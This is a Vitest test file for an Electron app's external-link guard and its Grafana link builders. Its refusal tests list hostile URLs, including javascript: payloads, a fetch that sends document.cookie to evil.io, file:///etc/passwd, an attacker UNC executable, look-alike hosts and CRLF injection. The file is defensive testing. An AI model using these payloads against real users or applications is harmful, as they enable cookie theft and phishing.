import { describe, expect, it, vi } from 'vitest';
import { alertRuleSearchUrl, dashboardUrl, explorePaneId, grafanaRoot, normalizeTraceId, slugify, tempoExploreUrl, traceExploreUrl } from '../../core/common/links';
import { createSettingsStore } from '../../core/config';
import { alertUrl, allowedOrigins, createLiveLinks, linkTargetsFromSettings, mainDashboardUrl, traceUrl } from '../../electron/main/link-targets';
import { linkSettings } from './electron-fixtures';
import { testSettings } from '../support/core-harness';
import { checkExternalUrl, guardWindow, openExternalIfAllowed, type GuardedWebContentsLike, type NavigationEventLike } from '../../electron/main/security';

const traceId = '4bf92f3577b34da6a3ce929d0e0e4736';

const targets = linkTargetsFromSettings(
  linkSettings({
    grafana: { url: 'https://lab.example.com/grafana/', tempoDatasourceUid: 'tempo-uid', orgId: 2, dashboards: { overview: 'bruno-overview', ollama: 'bruno-ollama', rag: 'bruno-rag' } },
    prometheusUrl: 'http://prometheus.lan:9090',
    alertmanagerUrl: 'http://10.0.0.5:9093',
    tempoUrl: 'http://tempo.lan:3200',
  }),
);
const origins = allowedOrigins(targets);

describe('configured origins', () => {
  it('are the exact origins of Grafana, Tempo, Prometheus and Alertmanager', () => {
    expect(origins.sort()).toEqual(['http://10.0.0.5:9093', 'http://prometheus.lan:9090', 'http://tempo.lan:3200', 'https://lab.example.com'].sort());
  });

  it('are empty when nothing is configured', () => {
    expect(allowedOrigins(linkTargetsFromSettings(linkSettings()))).toEqual([]);
    expect(allowedOrigins(linkTargetsFromSettings(linkSettings({ prometheusUrl: '', alertmanagerUrl: '  ' })))).toEqual([]);
  });

  it('follow the settings as they change, not as they were at start', () => {
    const store = createSettingsStore(testSettings({}));
    const live = createLiveLinks(store);
    const changed: (string | null)[] = [];
    live.onChange((t) => changed.push(t.grafanaUrl));
    expect(live.origins()).toEqual([]);
    store.set({ ...store.get(), grafana: { ...store.get().grafana, url: 'http://grafana.lan:3000' } }, ['grafana.url']);
    expect(live.origins()).toEqual(['http://grafana.lan:3000']);
    expect(live.targets().grafanaUrl).toBe('http://grafana.lan:3000');
    expect(changed).toEqual(['http://grafana.lan:3000']);
    live.stop();
    store.set({ ...store.get(), grafana: { ...store.get().grafana, url: null } }, ['grafana.url']);
    expect(live.origins()).toEqual(['http://grafana.lan:3000']);
  });

  it('ignore values that are not http(s) URLs, and default ports collapse', () => {
    const t = linkTargetsFromSettings(linkSettings({ grafana: { url: 'javascript:alert(1)' }, prometheusUrl: 'file:///etc', alertmanagerUrl: 'https://am.lan:443/' }));
    expect(t.grafanaUrl).toBeNull();
    expect(allowedOrigins(t)).toEqual(['https://am.lan']);
  });
});

describe('the external-link guard with the configured origins', () => {
  const hostile: [string, string][] = [
    ['javascript: URL', 'javascript:alert(document.cookie)'],
    ['mixed-case javascript:', 'JaVaScRiPt:alert(1)'],
    ['javascript: with an encoded colon trick', 'javascript%3Aalert(1)'],
    ['file: URL', 'file:///etc/passwd'],
    ['mixed-case file:', 'FiLe:///C:/Windows/System32/calc.exe'],
    ['UNC file URL', 'file://attacker.example/share/x.exe'],
    ['data: URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['blob: URL', 'blob:https://lab.example.com/123'],
    ['ftp: of an allowed host', 'ftp://lab.example.com/'],
    ['smb: share', 'smb://prometheus.lan/share'],
    ['look-alike: allowed host as a subdomain', 'https://lab.example.com.evil.io/grafana/d/x'],
    ['look-alike: trailing dot', 'https://lab.example.com./grafana/'],
    ['look-alike: hyphen for dot', 'http://prometheus-lan:9090/'],
    ['look-alike: allowed host in the path', 'https://evil.io/lab.example.com/grafana'],
    ['look-alike: allowed host as user info', 'https://lab.example.com@evil.io/'],
    ['look-alike: backslash before @', 'http://evil.io\\@prometheus.lan:9090/'],
    ['look-alike: IDN homograph (Cyrillic а)', 'https://l\u0430b.example.com/grafana/'],
    ['look-alike: punycode', 'https://xn--lb-7ka.example.com/'],
    ['credentials', 'https://admin:admin@lab.example.com/grafana/'],
    ['user name only', 'http://admin@prometheus.lan:9090/'],
    ['empty credentials', 'http://:@prometheus.lan:9090/'],
    ['other port', 'http://prometheus.lan:9091/graph'],
    ['explicit default port of the other scheme', 'http://lab.example.com:443/grafana/'],
    ['http instead of https', 'http://lab.example.com/grafana/'],
    ['https instead of http', 'https://prometheus.lan:9090/'],
    ['another address of the same network', 'http://10.0.0.6:9093/'],
    ['relative URL', '/grafana/d/x'],
    ['protocol-relative URL', '//lab.example.com/grafana/'],
    ['tab inside the scheme', 'ht\ttps://lab.example.com/'],
    ['CRLF injection', 'https://lab.example.com/grafana/\r\nLocation: https://evil.io'],
  ];

  it.each(hostile)('refuses %s', (_name, url) => {
    const open = vi.fn(async () => {});
    const log = vi.fn();
    expect(checkExternalUrl(url, origins).ok).toBe(false);
    expect(openExternalIfAllowed(url, origins, open, log)).toBe(false);
    expect(open).not.toHaveBeenCalled();
    expect(log).toHaveBeenCalledWith('security: refused to open a link', expect.objectContaining({ reason: expect.any(String) }));
  });

  const friendly: [string, string, string][] = [
    ['Grafana under its sub-path', 'https://lab.example.com/grafana/d/abc?orgId=2', 'https://lab.example.com/grafana/d/abc?orgId=2'],
    ['mixed-case scheme and host', 'HTTPS://LAB.Example.COM/grafana/d/abc', 'https://lab.example.com/grafana/d/abc'],
    ['explicit default port', 'https://lab.example.com:443/grafana/', 'https://lab.example.com/grafana/'],
    ['Prometheus graph', 'http://prometheus.lan:9090/graph?g0.expr=up', 'http://prometheus.lan:9090/graph?g0.expr=up'],
    ['Alertmanager by IP', 'http://10.0.0.5:9093/#/alerts', 'http://10.0.0.5:9093/#/alerts'],
    ['Tempo', 'http://tempo.lan:3200/api/traces/abc', 'http://tempo.lan:3200/api/traces/abc'],
  ];

  it.each(friendly)('opens %s (normalized)', (_name, url, normalized) => {
    const open = vi.fn(async () => {});
    expect(openExternalIfAllowed(url, origins, open, vi.fn())).toBe(true);
    expect(open).toHaveBeenCalledWith(normalized);
  });

  it('logs refusals without credentials or query strings', () => {
    const log = vi.fn();
    openExternalIfAllowed('https://admin:hunter2@evil.io/x?api_key=SECRET#token=abc', origins, vi.fn(), log);
    openExternalIfAllowed('javascript:fetch("https://evil.io/?c="+document.cookie)', origins, vi.fn(), log);
    const logged = JSON.stringify(log.mock.calls);
    expect(logged).not.toMatch(/hunter2|SECRET|token=abc|document\.cookie|admin/);
  });

  it('routes navigation and window.open through the same check', () => {
    const listeners = new Map<string, (e: NavigationEventLike) => void>();
    let openHandler!: (d: { url: string }) => { action: 'deny' };
    const wc: GuardedWebContentsLike = {
      on: (event: string, l: (e: NavigationEventLike) => void) => void listeners.set(event, l),
      setWindowOpenHandler: (h) => void (openHandler = h),
    };
    const open = vi.fn(async () => {});
    guardWindow(wc, { allowedExternalOrigins: () => origins, openExternal: open, log: vi.fn() });
    const nav = (url: string) => {
      const e = { url, preventDefault: vi.fn() };
      listeners.get('will-navigate')!(e);
      return e.preventDefault;
    };
    expect(nav('https://lab.example.com/grafana/d/x')).toHaveBeenCalled();
    expect(nav('https://lab.example.com.evil.io/')).toHaveBeenCalled();
    expect(openHandler({ url: 'http://prometheus.lan:9090/alerts' })).toEqual({ action: 'deny' });
    expect(openHandler({ url: 'FILE:///etc/passwd' })).toEqual({ action: 'deny' });
    expect(open.mock.calls).toEqual([['https://lab.example.com/grafana/d/x'], ['http://prometheus.lan:9090/alerts']]);
  });

  it('every link the tray builds passes the guard', () => {
    const built = [
      mainDashboardUrl(targets),
      traceUrl(targets, traceId),
      alertUrl(targets, { name: 'OllamaDown', generatorUrl: null }),
      alertUrl(linkTargetsFromSettings(linkSettings({ prometheusUrl: 'http://prometheus.lan:9090' })), { name: 'X', generatorUrl: 'http://prometheus.lan:9090/graph?g0.expr=up' }),
    ];
    for (const url of built) expect(checkExternalUrl(url, origins), String(url)).toMatchObject({ ok: true });
  });
});

describe('Grafana links (core/common/links.ts)', () => {
  it('Explore URL for a trace, as Grafana builds it', () => {
    const url = traceExploreUrl({ grafanaUrl: 'http://grafana.lan:3000', tempoUid: 'tempo', traceId: traceId.toUpperCase() })!;
    const panes = {
      [explorePaneId]: {
        datasource: 'tempo',
        queries: [{ refId: 'A', datasource: { type: 'tempo', uid: 'tempo' }, queryType: 'traceql', query: traceId }],
        range: { from: 'now-24h', to: 'now' },
      },
    };
    expect(url).toBe(`http://grafana.lan:3000/explore?schemaVersion=1&orgId=1&panes=${encodeURIComponent(JSON.stringify(panes))}`);
    // Pane id: 3 chars of the nanoid alphabet, not all digits.
    expect(explorePaneId).toMatch(/^[\w-]{3}$/);
    expect(explorePaneId).not.toMatch(/^\d+$/);
  });

  it('keeps a sub-path and the org; a TraceQL search uses the same pane', () => {
    const url = tempoExploreUrl({ grafanaUrl: 'https://lab.example.com/grafana/', orgId: 3, tempoUid: 'tempo', query: '{ resource.service.name="agent-bruno" && status=error }' })!;
    const parsed = new URL(url);
    expect(parsed.pathname).toBe('/grafana/explore');
    expect(parsed.searchParams.get('orgId')).toBe('3');
    expect(JSON.parse(parsed.searchParams.get('panes')!)[explorePaneId].queries[0].query).toBe('{ resource.service.name="agent-bruno" && status=error }');
  });

  it('returns null instead of a wrong link', () => {
    expect(traceExploreUrl({ grafanaUrl: null, tempoUid: 'tempo', traceId })).toBeNull();
    expect(traceExploreUrl({ grafanaUrl: 'http://g', tempoUid: null, traceId })).toBeNull();
    expect(traceExploreUrl({ grafanaUrl: 'http://g', tempoUid: 'tempo', traceId: 'abc' })).toBeNull();
    expect(traceExploreUrl({ grafanaUrl: 'http://g', tempoUid: 'tempo', traceId: '0'.repeat(32) })).toBeNull();
    expect(traceExploreUrl({ grafanaUrl: 'http://g', tempoUid: 'bad uid"', traceId })).toBeNull();
    expect(dashboardUrl({ grafanaUrl: 'http://g', uid: '../admin' })).toBeNull();
    expect(dashboardUrl({ grafanaUrl: 'http://g', uid: 'x', range: { from: 'yesterday', to: 'now' } })).toBeNull();
    expect(alertRuleSearchUrl({ grafanaUrl: 'http://g', ruleName: '  ' })).toBeNull();
  });

  it('a Grafana URL with credentials, query or another scheme is not a root', () => {
    expect(grafanaRoot('http://admin:pw@grafana.lan:3000')).toBeNull();
    expect(grafanaRoot('http://grafana.lan:3000/?orgId=1')).toBeNull();
    expect(grafanaRoot('javascript:alert(1)//')).toBeNull();
    expect(grafanaRoot('HTTP://Grafana.LAN:3000///')).toBe('http://grafana.lan:3000');
  });

  it('dashboard URL with range, slug and repeated variables', () => {
    expect(dashboardUrl({ grafanaUrl: 'http://g:3000', uid: 'bruno-ollama', slug: 'Agent Bruno: Ollama', range: { from: 'now-1h', to: 'now' }, vars: { model: ['llama3.1:8b', 'qwen2.5:7b'], 'bad name': 'x' } })).toBe(
      'http://g:3000/d/bruno-ollama/agent-bruno-ollama?orgId=1&from=now-1h&to=now&var-model=llama3.1%3A8b&var-model=qwen2.5%3A7b',
    );
    expect(dashboardUrl({ grafanaUrl: 'http://g:3000', uid: 'u', range: { from: 1700000000000, to: 1700000360000 } })).toBe('http://g:3000/d/u?orgId=1&from=1700000000000&to=1700000360000');
    expect(slugify('  Hello, World! ')).toBe('hello-world');
  });

  it('alert rule search quotes the name', () => {
    const url = alertRuleSearchUrl({ grafanaUrl: 'http://g:3000', ruleName: 'High "TTFT" p95' })!;
    expect(new URL(url).searchParams.get('search')).toBe('rule:"High \\"TTFT\\" p95"');
  });

  it('normalizes trace ids', () => {
    expect(normalizeTraceId(` ${traceId.toUpperCase()} `)).toBe(traceId);
    expect(normalizeTraceId(123)).toBeNull();
    expect(normalizeTraceId('g'.repeat(32))).toBeNull();
  });
});
